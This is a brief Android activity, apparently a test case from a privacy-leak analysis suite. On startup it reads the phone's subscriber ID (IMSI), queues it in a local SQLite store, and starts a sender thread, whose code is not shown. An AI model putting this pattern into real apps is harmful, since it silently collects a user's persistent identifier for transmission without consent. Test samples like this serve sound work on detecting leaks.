package cn.privlens.suite.sqlite_upload_queue;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        QueueDb queue = new QueueDb(this);
        queue.push("sim", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId());
        new Sender(queue).start();
    }
}
